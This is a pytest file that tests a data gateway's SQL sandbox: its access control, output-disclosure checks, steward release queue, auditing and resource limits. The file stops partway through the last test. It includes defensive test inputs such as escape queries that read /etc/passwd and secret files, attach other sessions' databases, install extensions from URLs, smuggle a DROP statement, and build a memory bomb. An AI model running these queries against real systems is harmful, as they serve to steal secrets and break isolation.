"""The SQL sandbox through the gateway's HTTP API (api.md "Sandbox") and its GraphQL mirror:
who may open a session on what, escapes refused with their own codes and audited while the
gateway keeps serving, output checks, the steward's release queue, other principals, expiry."""
from __future__ import annotations

import datetime as dt
import os
import signal
import threading
import time
from pathlib import Path

import pytest
import sqlalchemy as sa
from starlette.testclient import TestClient

from gateway.web.app import Gateway, create_app
from gateway.identifiers import make_credit_code
from gateway.open_data import applications
from gateway.access.principals import load_caller
from gateway.store.models import AuditRecord, Principal, RoleAssignment
from gateway.store.sandbox_models import SandboxRelease, SandboxSessionRecord
from sandbox import query_process
from tests.conftest import PEOPLE, PURPOSE, Api, codes
from tests.sandbox.test_escapes import ESCAPES as ENGINE_ESCAPES

FORBIDDEN = "SANDBOX_FORBIDDEN"
SANDBOX_SETTINGS = dict(sandbox_timeout_seconds=1.5, sandbox_memory_mb=96, sandbox_temp_mb=32,
                        sandbox_max_rows=1000, sandbox_max_sessions=20)
GRANTED = ["employerCreditCode", "insuranceType", "monthlyBase", "since", "status", "district"]
OTHER = "sandbox-test-analyst"
BY_DISTRICT = "SELECT district, count(*) AS n FROM socialInsurance GROUP BY district ORDER BY district"
SMALL_GROUPS = ("SELECT district, status, insuranceType, since, count(*) AS n FROM socialInsurance "
                "GROUP BY ALL ORDER BY ALL")
GRAPHQL_CHECK = '{ me { principal } catalog { code } }'


class Sandbox:
    """The sandbox endpoints as one principal (None: no token)."""

    def __init__(self, client: TestClient, gateway: Gateway, principal: str | None):
        self.client = client
        self.gateway = gateway
        self.principal = principal
        self.headers = {}
        if principal:
            token = gateway.services.tokens.issue(principal, gateway.services.clock.now())
            self.headers["Authorization"] = f"Bearer {token}"

    def open(self, datasets=("socialInsurance",)):
        return self.client.post("/sandbox/sessions", json={"datasets": list(datasets)}, headers=self.headers)

    def opened(self) -> str:
        """The id of a new session on socialInsurance (which must open)."""
        response = self.open()
        assert response.status_code == 201, response.text
        return response.json()["id"]

    def query(self, session_id: str, sql: str):
        return self.client.post(f"/sandbox/sessions/{session_id}/query", json={"sql": sql},
                                headers=self.headers)

    def release(self, session_id: str, sql: str, why: str = "needed for the published report"):
        return self.client.post(f"/sandbox/sessions/{session_id}/releases",
                                json={"sql": sql, "justification": why}, headers=self.headers)

    def close(self, session_id: str):
        return self.client.delete(f"/sandbox/sessions/{session_id}", headers=self.headers)

    def graphql(self, query: str, variables: dict | None = None) -> dict:
        return Api(self.client, self.gateway, self.principal).query(query, variables)


@pytest.fixture(scope="module")
def world(gateway, tmp_path_factory):
    """A gateway on the shared store with tight sandbox limits (the engine tests' ones), and a
    second organisation with its own approved sandbox application."""
    settings = gateway.settings.with_(sandbox_dir=tmp_path_factory.mktemp("sandbox"), **SANDBOX_SETTINGS)
    gw = Gateway(settings)
    _ensure_other_analyst(gw)
    client = TestClient(create_app(settings, gw))
    client.__enter__()
    yield gw, client
    client.__exit__(None, None, None)
    gw.close()


def _ensure_other_analyst(gw: Gateway) -> None:
    with gw.services.store() as session:
        if session.get(Principal, OTHER) is not None:
            return
    approved_researcher(gw, OTHER, "91440605MA4X2YK01", ["district", "insuranceType"],
                        display_name="另一家研究机构分析员")


def approved_researcher(gw: Gateway, name: str, credit_seed: str, fields: list[str],
                        display_name: str = ""):
    """An organisation's researcher with an approved SANDBOX application for socialInsurance's
    `fields`; returns the application."""
    with gw.services.store() as session, session.begin():
        if session.get(Principal, name) is None:
            principal = Principal(name=name, display_name=display_name, kind="ORGANIZATION",
                                  credit_code=make_credit_code(credit_seed))
            principal.roles = [RoleAssignment(role="researcher", assigned_by="test",
                                              assigned_at=gw.services.clock.now())]
            session.add(principal)
    with gw.services.store() as session:
        analyst, steward = load_caller(session, name), load_caller(session, "renshe-steward")
    app = applications.apply(gw.services, analyst, applications.ApplicationInput(
        dataset="socialInsurance", fields=fields, purpose="labour-market-research",
        purpose_description="test", channel="SANDBOX", commitment_accepted=True))
    applications.approve(gw.services, steward, app.id, expires_on=dt.date(2027, 6, 30), report_every_days=90)
    return app


@pytest.fixture(scope="module")
def researcher(world) -> Sandbox:
    return Sandbox(world[1], world[0], "researcher")


@pytest.fixture(scope="module")
def session_id(researcher) -> str:
    return researcher.opened()


@pytest.fixture(scope="module")
def other_session(world) -> dict:
    response = Sandbox(world[1], world[0], OTHER).open()
    assert response.status_code == 201, response.text
    return response.json()


def audit_since(gw: Gateway, after_id: int, principal: str | None = "researcher") -> list[AuditRecord]:
    with gw.services.store() as session:
        statement = sa.select(AuditRecord).where(AuditRecord.id > after_id).order_by(AuditRecord.id)
        if principal is not None:
            statement = statement.where(AuditRecord.principal == principal)
        return list(session.scalars(statement))


def last_audit_id(gw: Gateway) -> int:
    with gw.services.store() as session:
        return session.scalar(sa.select(sa.func.max(AuditRecord.id))) or 0


# --- opening ---------------------------------------------------------------------------------

def test_a_session_holds_exactly_the_approved_fields_masked(researcher, world):
    before = last_audit_id(world[0])
    response = researcher.open()
    assert response.status_code == 201, response.text
    body = response.json()
    assert set(body) >= {"id", "tables", "expiresAt"}
    assert dt.datetime.fromisoformat(body["expiresAt"]) > world[0].services.clock.now()
    [table] = body["tables"]
    assert table["name"] == "socialInsurance"
    columns = {c["name"]: c["type"] for c in table["columns"]}
    assert set(columns) == set(GRANTED)
    assert "idNumber" not in columns and "name" not in columns
    # the open-channel policy: dates as years, money as bands, dimensions kept
    assert body["masking"]["socialInsurance"]["since"] == "generalize"
    assert columns["district"] == "VARCHAR" and columns["since"] == "VARCHAR"
    opened = [r for r in audit_since(world[0], before) if r.action == "SANDBOX_OPEN"]
    assert opened and opened[-1].outcome == "ALLOWED" and opened[-1].rows > 0
    assert "socialInsurance.district" in opened[-1].fields
    assert researcher.close(body["id"]).status_code == 204


def test_an_aggregate_query_answers_the_same_as_the_source(researcher, session_id, demo_source_urls):
    response = researcher.query(session_id, BY_DISTRICT)
    assert response.status_code == 200, response.text
    body = response.json()
    assert body["columns"] == ["district", "n"]
    engine = sa.create_engine(demo_source_urls["renshe-db"])
    with engine.connect() as conn:
        expected = [list(r) for r in conn.execute(sa.text(
            "SELECT district, count(*) FROM social_insurance GROUP BY district ORDER BY district"))]
    engine.dispose()
    assert body["rows"] == expected


def test_masked_values_are_what_the_open_channel_gives(researcher, session_id):
    years = researcher.query(session_id, "SELECT since, count(*) AS n FROM socialInsurance "
                                         "GROUP BY since HAVING count(*) >= 5 ORDER BY since")
    assert years.status_code == 200, years.text
    assert years.json()["rows"] and all(len(y) == 4 and y.isdigit() for y, _ in years.json()["rows"])



def test_amounts_enter_exact_so_that_they_can_be_aggregated(researcher, session_id, demo_source_urls):
    """api.md's example works: personal amounts are kept inside the sandbox (only checked
    aggregates leave), while downloads and the open API band them."""
    response = researcher.query(session_id, "SELECT district, avg(monthlyBase) AS a "
                                            "FROM socialInsurance GROUP BY 1 ORDER BY 1")
    assert response.status_code == 200, response.text
    engine = sa.create_engine(demo_source_urls["renshe-db"])
    with engine.connect() as conn:
        expected = {d: float(a) for d, a in conn.execute(sa.text(
            "SELECT district, avg(monthly_base) FROM social_insurance GROUP BY district"))}
    engine.dispose()
    got = {d: a for d, a in response.json()["rows"]}
    assert got.keys() == expected.keys()
    assert all(abs(got[d] - expected[d]) < 0.01 for d in got)
    dump = researcher.query(session_id, "SELECT monthlyBase FROM socialInsurance")
    assert dump.status_code == 403 and dump.json()["error"]["code"] == "OUTPUT_CHECK_FAILED"


def test_a_principal_without_an_approved_application_is_refused(world):
    gw, client = world
    for principal in ("minzheng-app", "renshe-app", "gongan-steward"):
        response = Sandbox(client, gw, principal).open()
        assert response.status_code == 403, principal
        assert response.json()["error"]["code"] == "FORBIDDEN_DATASET"
        assert "sandbox application" in response.json()["error"]["message"]
    other = Sandbox(client, gw, OTHER)
    for datasets, word in ((["population"], "not open"), (["medicalVisits"], "not open"),
                           (["nosuchDataset"], "no published dataset"),
                           (["socialInsurance", "enterprises"], "enterprises")):
        response = other.open(datasets)
        assert response.status_code == 403, datasets
        assert response.json()["error"]["code"] == "FORBIDDEN_DATASET"
        assert word in response.json()["error"]["message"]


def test_without_a_valid_token_it_is_401(world):
    gw, client = world
    before = last_audit_id(gw)
    anonymous = Sandbox(client, gw, None).open()
    assert anonymous.status_code == 401 and anonymous.json()["error"]["code"] == "UNAUTHENTICATED"
    forged = client.post("/sandbox/sessions", json={"datasets": ["socialInsurance"]},
                         headers={"Authorization": "Bearer not.a.token"})
    assert forged.status_code == 401 and forged.headers["WWW-Authenticate"] == "Bearer"
    denied = [r for r in audit_since(gw, before, principal=None)
              if r.action == "SANDBOX_OPEN" and r.error_code == "UNAUTHENTICATED"]
    assert len(denied) == 2


@pytest.mark.parametrize("body,word", [
    ({}, "datasets"), ({"datasets": []}, "datasets"), ({"datasets": "socialInsurance"}, "datasets"),
    ({"datasets": ["socialInsurance", "socialInsurance"]}, "twice"),
])
def test_malformed_open_requests_are_bad_input(researcher, body, word):
    response = researcher.client.post("/sandbox/sessions", json=body, headers=researcher.headers)
    assert response.status_code == 400 and response.json()["error"]["code"] == "BAD_INPUT"
    assert word in response.json()["error"]["message"]


def test_the_same_in_graphql(researcher, world):
    opened = researcher.graphql('mutation { openSandboxSession(datasets: ["socialInsurance"]) '
                                '{ id expiresAt tables { name columns { name type } } masking { field operator } } }')
    session = opened["data"]["openSandboxSession"]
    assert {c["name"] for c in session["tables"][0]["columns"]} == set(GRANTED)
    ran = researcher.graphql('mutation($s: ID!, $q: String!) { runSandboxQuery(sessionId: $s, sql: $q) '
                             '{ columns rows } }', {"s": session["id"], "q": BY_DISTRICT})
    assert ran["data"]["runSandboxQuery"]["columns"] == ["district", "n"]
    assert sum(n for _, n in ran["data"]["runSandboxQuery"]["rows"]) > 0
    refused = researcher.graphql('mutation($s: ID!) { runSandboxQuery(sessionId: $s, '
                                 'sql: "SELECT * FROM read_text(\'/etc/passwd\')") { rows } }', {"s": session["id"]})
    assert codes(refused) == [FORBIDDEN]
    nested = "replace(" * 9 + "(status || 'e')" + ", 'e', 'eeeeeeeeee')" * 9
    bomb = researcher.graphql('mutation($s: ID!, $q: String!) { runSandboxQuery(sessionId: $s, sql: $q) '
                              '{ rows } }', {"s": session["id"], "q": f"SELECT district, length({nested}) AS l, "
                              f"count(*) AS n FROM socialInsurance GROUP BY ALL"})
    assert codes(bomb) in (["SANDBOX_MEMORY"], ["SANDBOX_TIMEOUT"])  # in the query's process, not here
    again = researcher.graphql('mutation($s: ID!, $q: String!) { runSandboxQuery(sessionId: $s, sql: $q) '
                               '{ rows } }', {"s": session["id"], "q": BY_DISTRICT})
    assert again["data"]["runSandboxQuery"]["rows"] == ran["data"]["runSandboxQuery"]["rows"]
    denied = Sandbox(world[1], world[0], "minzheng-app").graphql(
        'mutation { openSandboxSession(datasets: ["socialInsurance"]) { id } }')
    assert codes(denied) == ["FORBIDDEN_DATASET"]
    closed = researcher.graphql('mutation($s: ID!) { closeSandboxSession(sessionId: $s) }', {"s": session["id"]})
    assert closed["data"]["closeSandboxSession"] is True


# --- escapes ---------------------------------------------------------------------------------

def _gateway_escapes() -> list[tuple]:
    """Attempts that only make sense through the gateway: its own files, other sessions'
    folders, fields and datasets the application does not cover, and the usual ones spelled
    differently. `{data_dir}`, `{sandbox_dir}`, `{other_db}`, `{other_dir}` are filled in."""
    return [
        ("store_sqlite_read_blob", "SELECT * FROM read_blob('{data_dir}/datagate.sqlite')", FORBIDDEN, "read_blob"),
        ("store_sqlite_scan", "SELECT * FROM sqlite_scan('{data_dir}/datagate.sqlite', 'audit_records')",
         FORBIDDEN, "sqlite_scan"),
        ("attach_store", "ATTACH '{data_dir}/datagate.sqlite' AS store (TYPE sqlite)", FORBIDDEN, "ATTACH"),
        ("jwt_secret", "SELECT content FROM read_text('{data_dir}/jwt-secret')", FORBIDDEN, "read_text"),
        ("hash_secret", "SELECT * FROM read_csv('{data_dir}/hash-secret')", FORBIDDEN, "read_csv"),
        ("list_sessions", "SELECT * FROM glob('{sandbox_dir}/*')", FORBIDDEN, "glob"),
        ("other_session_replacement_scan", "SELECT count(*) FROM '{other_db}'", FORBIDDEN, "files"),
        ("other_session_attach_read_only", "ATTACH '{other_db}' AS o (READ_ONLY)", FORBIDDEN, "ATTACH"),
        ("copy_into_sandbox_dir", "COPY (SELECT 1) TO '{sandbox_dir}/x.csv'", FORBIDDEN, "COPY"),
        ("postgres_scan", "SELECT * FROM postgres_scan('host=127.0.0.1 user=postgres', 'public', "
         "'audit_records')", FORBIDDEN, "postgres_scan"),
        ("mysql_attach", "ATTACH 'host=127.0.0.1 user=root' AS m (TYPE mysql)", FORBIDDEN, "ATTACH"),
        ("iceberg_scan", "SELECT * FROM iceberg_scan('/tmp/x')", FORBIDDEN, "iceberg_scan"),
        ("delta_scan", "SELECT * FROM delta_scan('/tmp/x')", FORBIDDEN, "delta_scan"),
        ("read_xlsx", "SELECT * FROM read_xlsx('/etc/passwd')", FORBIDDEN, "read_xlsx"),
        ("quoted_function_name", "SELECT * FROM \"read_csv\"('/etc/passwd')", FORBIDDEN, "read_csv"),
        ("comment_inside", "SELECT/**/ * FROM read_csv('/etc/passwd')", FORBIDDEN, "read_csv"),
        ("upper_case", "SELECT * FROM READ_TEXT('/etc/passwd')", FORBIDDEN, "read_text"),
        ("duckdb_secrets", "SELECT * FROM duckdb_secrets()", FORBIDDEN, "not available"),
        ("duckdb_functions", "SELECT * FROM duckdb_functions()", FORBIDDEN, "not available"),
        ("set_threads", "SET threads = 64", FORBIDDEN, "settings"),
        ("set_global_memory", "SET GLOBAL memory_limit = '10GB'", FORBIDDEN, "settings"),
        ("pragma_memory", "PRAGMA memory_limit = '10GB'", FORBIDDEN, "settings"),
        ("set_temp_directory", "SET temp_directory = '/tmp'", FORBIDDEN, "settings"),
        ("load_file_extension", "LOAD '/tmp/evil.duckdb_extension'", FORBIDDEN, "extensions"),
        ("install_from_url", "INSTALL 'https://example.com/evil.duckdb_extension'", FORBIDDEN, "extensions"),
        ("ungranted_dataset", "SELECT count(*) FROM population", FORBIDDEN, "not available"),
        ("ungranted_dataset_qualified", "SELECT count(*) FROM main.population", FORBIDDEN, "not available"),
        ("ungranted_field", "SELECT count(DISTINCT idNumber) FROM socialInsurance", "BAD_INPUT", "idNumber"),
        ("ungranted_name_field", "SELECT name, count(*) FROM socialInsurance GROUP BY 1", "BAD_INPUT", "name"),
        ("triple_self_join", "SELECT count(*) FROM socialInsurance a, socialInsurance b, socialInsurance c, "
         "socialInsurance d", "SANDBOX_TIMEOUT", "stopped"),
        ("not_a_statement", "SELEC 1", "BAD_INPUT", "parsed"),
        ("drop_after_comment", "SELECT 1; -- \nDROP TABLE socialInsurance", FORBIDDEN, "exactly one"),
    ]


ESCAPES = [e for e in ENGINE_ESCAPES] + _gateway_escapes()


def _fill(sql: str, world, other_session) -> str:
    gw = world[0]
    sandbox_dir = Path(gw.settings.sandbox_dir)
    other_dir = sandbox_dir / other_session["id"]
    return (sql.replace("{other_db}", str(other_dir / "data.duckdb")).replace("{other_dir}", str(other_dir))
            .replace("{data_dir}", str(Path(gw.settings.data_dir).resolve()))
            .replace("{sandbox_dir}", str(sandbox_dir)))


def test_at_least_forty_escapes_of_our_own_and_all_distinct():
    assert len(_gateway_escapes()) >= 30
    assert len({sql for _, sql, _, _ in ESCAPES}) == len(ESCAPES) >= 40


@pytest.mark.parametrize("sql,code,words", [e[1:] for e in ESCAPES], ids=[e[0] for e in ESCAPES])
def test_escape_is_refused_audited_and_the_gateway_keeps_serving(world, researcher, session_id,
                                                                  other_session, sql, code, words):
    gw, client = world
    sql = _fill(sql, world, other_session)
    before = last_audit_id(gw)
    response = researcher.query(session_id, sql)
    expected = code if isinstance(code, tuple) else (code,)
    assert 400 <= response.status_code < 500, response.text
    error = response.json()["error"]
    assert error["code"] in expected, error
    assert words.lower() in error["message"].lower()
    assert "Traceback" not in error["message"] and "/etc/passwd:" not in error["message"]
    [record] = [r for r in audit_since(gw, before) if r.action == "SANDBOX_QUERY"]
    assert record.outcome == "DENIED" and record.error_code == error["code"]
    assert record.detail == sql[:500] and record.mode == "SANDBOX" and record.dataset == "socialInsurance"
    # the session, the other principal's session and the rest of the gateway keep serving
    assert researcher.query(session_id, BY_DISTRICT).status_code == 200
    other = Sandbox(client, gw, OTHER)
    assert other.query(other_session["id"], BY_DISTRICT).status_code == 200
    me = Api(client, gw, "minzheng-app").query(GRAPHQL_CHECK)
    assert me["data"]["me"]["principal"] == "minzheng-app"


def test_nothing_was_written_and_no_host_file_leaked(world, researcher, session_id, other_session):
    for leak in ("/tmp/dg_leak.csv", "/tmp/dg_leak.parquet", "/tmp/dg_export"):
        assert not Path(leak).exists()
    assert not (Path(world[0].settings.sandbox_dir) / "x.csv").exists()
    passwd = Path("/etc/passwd").read_text().splitlines()[0].split(":")[0] + ":x:"
    for _, sql, _, _ in _gateway_escapes()[:20]:
        assert passwd not in researcher.query(session_id, _fill(sql, world, other_session)).text


def test_an_oversized_or_empty_query_is_bad_input(researcher, session_id):
    for sql in ("", "   ", None, "SELECT 1 " + "+ 1 " * 6000):
        response = researcher.query(session_id, sql)
        assert response.status_code == 400 and response.json()["error"]["code"] == "BAD_INPUT"


def test_non_finite_numbers_stay_valid_json(researcher, session_id):
    response = researcher.query(session_id, "SELECT 1/0 AS x, -1/0 AS y, 'nan'::DOUBLE AS z")
    assert response.status_code == 200, response.text
    assert response.json()["rows"] == [["Infinity", "-Infinity", "NaN"]]


@pytest.mark.parametrize("rows", [255, 256, 257, 1000])
def test_results_of_any_length_answer_the_same_values(researcher, session_id, rows):
    """Up to 255 rows cross from the query process as Python values, the rest as Arrow
    (empty at exactly 256 rows); the answer is the same either way."""
    response = researcher.query(session_id, f"SELECT range AS i, DATE '2020-01-01' + range::INT AS d, "
                                            f"'第' || range || '天' AS s, range / 4 AS f FROM range({rows})")
    assert response.status_code == 200, response.text
    body = response.json()
    assert body["columns"] == ["i", "d", "s", "f"]
    assert body["rows"] == [[i, (dt.date(2020, 1, 1) + dt.timedelta(days=i)).isoformat(), f"第{i}天", i / 4]
                            for i in range(rows)]


# --- output checks ---------------------------------------------------------------------------

@pytest.mark.parametrize("sql,check", [
    ("SELECT * FROM socialInsurance", "record_level"),
    ("SELECT district, monthlyBase, status FROM socialInsurance", "record_level"),
    ("SELECT employerCreditCode, count(*) FROM socialInsurance GROUP BY 1", "small_groups"),
    (SMALL_GROUPS, "small_groups"),
    # DuckDB stops at the small group; the columns are then bound to name the nested one too
    ("SELECT employerCreditCode, [count(*)] AS n FROM socialInsurance GROUP BY 1", "small_groups"),
    ("SELECT employerCreditCode, [count(*)] AS n FROM socialInsurance GROUP BY 1", "nested"),
    ("SELECT list(employerCreditCode) FROM socialInsurance", "aggregate"),
    # a window carries every group's value, and the union's LIMIT would cut the small rows
    ("SELECT district, lag(avg(monthlyBase)) OVER (ORDER BY district) AS prev, count(*) AS n "
     "FROM socialInsurance GROUP BY district, status UNION ALL SELECT NULL, NULL, NULL "
     "ORDER BY n LIMIT 3", "shape"),
    ("SELECT DISTINCT count(*) > 0 AS b FROM socialInsurance GROUP BY status "
     "UNION ALL SELECT true FROM range(3)", "shape"),
    ("SELECT district, (count(*), avg(monthlyBase)) AS pair FROM socialInsurance GROUP BY 1 "
     "HAVING count(*) >= 5", "nested"),
])
def test_output_checks_refuse_records_and_small_groups(world, researcher, session_id, sql, check):
    before = last_audit_id(world[0])
    response = researcher.query(session_id, sql)
    assert response.status_code == 403, response.text
    assert "rows" not in response.json()
    error = response.json()["error"]
    assert error["code"] == "OUTPUT_CHECK_FAILED" and check in error["failedChecks"]
    assert "release" in error["message"]
    [record] = [r for r in audit_since(world[0], before) if r.action == "SANDBOX_QUERY"]
    assert record.error_code == "OUTPUT_CHECK_FAILED" and record.rows == 0


def test_a_large_result_is_refused(researcher, session_id):
    response = researcher.query(session_id, "SELECT range FROM range(5000)")
    assert response.status_code == 413 and response.json()["error"]["code"] == "RESULT_TOO_LARGE"


# --- release queue ---------------------------------------------------------------------------

def test_a_refused_result_is_released_by_the_owners_steward_and_then_fetched(world, researcher, session_id):
    gw, client = world
    steward = Sandbox(client, gw, "renshe-steward")
    refused = researcher.query(session_id, SMALL_GROUPS)
    assert refused.status_code == 403
    asked = researcher.release(session_id, SMALL_GROUPS, "需要完整交叉表用于课题报告附录")
    assert asked.status_code == 201, asked.text
    release = asked.json()
    assert release["status"] == "PENDING" and "rows" not in release
    assert {c["check"] for c in release["failedChecks"]} == {"small_groups"}
    assert release["reviews"] == [{"department": "renshe", "status": "PENDING", "decidedBy": None,
                                   "decidedAt": None, "note": None}]
    # pending: the researcher sees the request, not the rows (a fetch, audited without rows)
    before = last_audit_id(gw)
    pending = client.get(f"/sandbox/releases/{release['id']}", headers=researcher.headers).json()
    assert pending["status"] == "PENDING" and "rows" not in pending
    [audit] = [r for r in audit_since(gw, before) if r.action == "SANDBOX_RELEASE_FETCH"]
    assert (audit.outcome, audit.rows, audit.detail) == ("ALLOWED", 0, f"release {release['id']}")
    # the steward's queue (HTTP and GraphQL) has it, with the withheld rows to judge
    queue = client.get("/sandbox/releases?box=INBOX&status=PENDING", headers=steward.headers).json()
    mine = [r for r in queue["releases"] if r["id"] == release["id"]]
    assert mine and mine[0]["rows"] and mine[0]["columns"] == ["district", "status", "insuranceType", "since", "n"]
    assert any(r["n"] < 5 for r in [dict(zip(mine[0]["columns"], row)) for row in mine[0]["rows"]])
    listed = steward.graphql("{ sandboxReleases(box: INBOX, status: PENDING) { id status requester rows } }")
    assert any(r["id"] == str(release["id"]) and r["requester"] == "researcher"
               for r in listed["data"]["sandboxReleases"])
    notes = steward.graphql("{ notifications { kind subjectId } }")
    assert {"kind": "SANDBOX_RELEASE_REQUESTED", "subjectId": str(release["id"])} in notes["data"]["notifications"]
    # other departments' stewards and the researcher cannot decide
    for who in ("gongan-steward", "researcher"):
        denied = client.post(f"/sandbox/releases/{release['id']}/decision", json={"approve": True},
                             headers=Sandbox(client, gw, who).headers)
        assert denied.status_code == 403 and denied.json()["error"]["code"] == "FORBIDDEN", who
    decided = steward.graphql('mutation($id: ID!) { decideSandboxRelease(id: $id, approve: true, '
                              'note: "同意用于报告附录") { status reviews { status decidedBy } } }',
                              {"id": release["id"]})
    assert decided["data"]["decideSandboxRelease"] == {
        "status": "APPROVED", "reviews": [{"status": "APPROVED", "decidedBy": "renshe-steward"}]}
    again = client.post(f"/sandbox/releases/{release['id']}/decision", json={"approve": False, "note": "x"},
                        headers=steward.headers)
    assert again.status_code == 400
    before = last_audit_id(gw)
    fetched = client.get(f"/sandbox/releases/{release['id']}", headers=researcher.headers)
    assert fetched.status_code == 200
    assert fetched.json()["status"] == "APPROVED" and fetched.json()["rows"] == mine[0]["rows"]
    [audit] = [r for r in audit_since(gw, before) if r.action == "SANDBOX_RELEASE_FETCH"]
    assert audit.rows == len(mine[0]["rows"])
    told = researcher.graphql("{ notifications { kind subjectId } }")
    assert {"kind": "SANDBOX_RELEASE_DECIDED", "subjectId": str(release["id"])} in told["data"]["notifications"]
    # nobody else gets it, and asking is a denial on the record
    before = last_audit_id(gw)
    elsewhere = client.get(f"/sandbox/releases/{release['id']}", headers=Sandbox(client, gw, OTHER).headers)
    assert elsewhere.status_code == 404 and "rows" not in elsewhere.json()
    assert elsewhere.json()["error"]["code"] == "NOT_FOUND"
    [audit] = [r for r in audit_since(gw, before, principal=OTHER) if r.action == "SANDBOX_RELEASE_FETCH"]
    assert (audit.outcome, audit.error_code, audit.rows) == ("DENIED", "NOT_FOUND", 0)


def test_a_rejected_release_needs_a_note_and_keeps_no_rows(world, researcher, session_id):
    gw, client = world
    steward = Sandbox(client, gw, "renshe-steward")
    sql = "SELECT employerCreditCode, count(*) FROM socialInsurance GROUP BY 1"
    release = researcher.release(session_id, sql).json()
    bare = client.post(f"/sandbox/releases/{release['id']}/decision", json={"approve": False},
                       headers=steward.headers)
    assert bare.status_code == 400 and "note" in bare.json()["error"]["message"]
    rejected = client.post(f"/sandbox/releases/{release['id']}/decision",
                           json={"approve": False, "note": "单位级数据可识别个人"}, headers=steward.headers)
    assert rejected.status_code == 200 and rejected.json()["status"] == "REJECTED"
    fetched = client.get(f"/sandbox/releases/{release['id']}", headers=researcher.headers).json()
    assert fetched["status"] == "REJECTED" and "rows" not in fetched
    assert fetched["reviews"][0]["note"] == "单位级数据可识别个人"
    assert client.get(f"/sandbox/releases/{release['id']}", headers=steward.headers).json()["rows"] == []


def test_a_decision_note_longer_than_a_note_keeps_is_bad_input_and_decides_nothing(world, researcher,
                                                                                 session_id):
    gw, client = world
    steward = Sandbox(client, gw, "renshe-steward")
    sql = "SELECT employerCreditCode, count(*) FROM socialInsurance GROUP BY 1"
    release = researcher.release(session_id, sql).json()
    before = last_audit_id(gw)
    long = client.post(f"/sandbox/releases/{release['id']}/decision",
                       json={"approve": False, "note": "拒" * 2_001}, headers=steward.headers)
    assert long.status_code == 400, long.text
    error = long.json()["error"]
    assert error["code"] == "BAD_INPUT"
    assert error["message"] == "note may have at most 2000 characters (this one has 2001); shorten it"
    [audit] = audit_since(gw, before, principal="renshe-steward")
    assert (audit.action, audit.outcome, audit.error_code) == (
        "SANDBOX_RELEASE_DECISION", "DENIED", "BAD_INPUT")
    pending = client.get(f"/sandbox/releases/{release['id']}", headers=steward.headers).json()
    assert pending["status"] == "PENDING" and pending["rows"]
    assert pending["reviews"][0]["status"] == "PENDING" and pending["reviews"][0]["note"] is None


def test_a_release_is_only_for_refused_results_and_needs_a_reason(researcher, session_id):
    passing = researcher.release(session_id, BY_DISTRICT)
    assert passing.status_code == 400 and "passes the output checks" in passing.json()["error"]["message"]
    unexplained = researcher.release(session_id, SMALL_GROUPS, "  ")
    assert unexplained.status_code == 400 and "justification" in unexplained.json()["error"]["message"]
    escape = researcher.release(session_id, "SELECT * FROM read_text('/etc/passwd')")
    assert escape.status_code == 403 and escape.json()["error"]["code"] == FORBIDDEN


def test_an_error_raised_while_reading_data_does_not_quote_the_data(researcher, session_id,
                                                                   demo_source_urls):
    engine = sa.create_engine(demo_source_urls["renshe-db"])
    with engine.connect() as conn:
        districts = [r[0] for r in conn.execute(sa.text("SELECT DISTINCT district FROM social_insurance"))]
    engine.dispose()
    response = researcher.query(session_id, "SELECT CAST(district AS INT) AS d, count(*) AS n "
                                            "FROM socialInsurance GROUP BY district")
    assert response.status_code == 400, response.text
    error = response.json()["error"]
    assert error["code"] == "BAD_INPUT" and "could not be converted" in error["message"]
    assert districts and not any(d in response.text for d in districts)


def _gateway_rss() -> int:
    """The resident memory of this process, which serves the TestClient's requests."""
    with open("/proc/self/status") as status:
        return next(int(line.split()[1]) * 1024 for line in status if line.startswith("VmRSS:"))


def test_a_value_built_past_the_memory_limit_stops_the_query_not_the_gateway(researcher, session_id):
    """Nested replace makes gigabytes in one function call, outside DuckDB's memory limit: the
    query's own process hits its address-space limit, and the gateway's memory stays as it was."""
    nested = "replace(" * 9 + "(status || 'e')" + ", 'e', 'eeeeeeeeee')" * 9
    bomb = f"SELECT district, length({nested}) AS l, count(*) AS n FROM socialInsurance GROUP BY ALL"
    baseline, peak, done = _gateway_rss(), [0], threading.Event()

    def sample():
        while not done.is_set():
            peak[0] = max(peak[0], _gateway_rss())
            time.sleep(0.005)

    sampler = threading.Thread(target=sample)
    sampler.start()
    try:
        response = researcher.query(session_id, bomb)
    finally:
        done.set()
        sampler.join()
    error = response.json()["error"]
    if error["code"] == "SANDBOX_TIMEOUT":  # a slow machine: the time limit came first
        assert response.status_code == 408, response.text
    else:
        assert response.status_code == 422 and error["code"] == "SANDBOX_MEMORY", response.text
        assert "built values larger than the memory" in error["message"]
    assert peak[0] - baseline < 200 * 1024 * 1024, (baseline, peak[0])
    assert researcher.query(session_id, BY_DISTRICT).status_code == 200
    # a long result, whose Arrow needs new allocations, still answers after the bomb
    long_result = researcher.query(session_id, "SELECT range AS i, 'x' || range AS s FROM range(1000)")
    assert long_result.status_code == 200 and len(long_result.json()["rows"]) == 1000


def _query_process_pid(world, session_id: str) -> int:
    session = world[0].services.sandbox.manager.get(session_id, "researcher")
    return session._queries._proc.pid


def test_a_query_process_deaf_past_the_time_limit_is_ended_and_audited(world, researcher, session_id,
                                                                      monkeypatch):
    """A process that does not answer past the time limit and its grace (here: stopped by a
    signal) is ended: 408 SANDBOX_TIMEOUT, audited, no SQL or path in the answer; the session
    answers the next query in a new process."""
    gw = world[0]
    monkeypatch.setattr(query_process, "GRACE_SECONDS", 0.3)
    assert researcher.query(session_id, BY_DISTRICT).status_code == 200
    pid = _query_process_pid(world, session_id)
    os.kill(pid, signal.SIGSTOP)
    before = last_audit_id(gw)
    sql = BY_DISTRICT + " -- deaf"
    response = researcher.query(session_id, sql)
    assert response.status_code == 408, response.text
    error = response.json()["error"]
    assert error["code"] == "SANDBOX_TIMEOUT" and "did not stop" in error["message"]
    assert "deaf" not in response.text and "sandbox.worker" not in response.text
    [record] = [r for r in audit_since(gw, before) if r.action == "SANDBOX_QUERY"]
    assert (record.outcome, record.error_code) == ("DENIED", "SANDBOX_TIMEOUT")
    assert researcher.query(session_id, BY_DISTRICT).status_code == 200
    assert _query_process_pid(world, session_id) != pid


def test_a_query_process_that_crashes_is_internal_with_a_reference_and_audited(world, researcher, session_id):
    """DuckDB aborting mid-query (here: SIGABRT while a query runs) is a fault: 500 INTERNAL
    with a reference, never the SQL or a trace; the session answers the next query."""
    gw = world[0]
    assert researcher.query(session_id, BY_DISTRICT).status_code == 200
    pid = _query_process_pid(world, session_id)
    endless = "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT count(*) AS crashing FROM r"
    threading.Timer(0.4, os.kill, (pid, signal.SIGABRT)).start()
    before = last_audit_id(gw)
    response = researcher.query(session_id, endless)
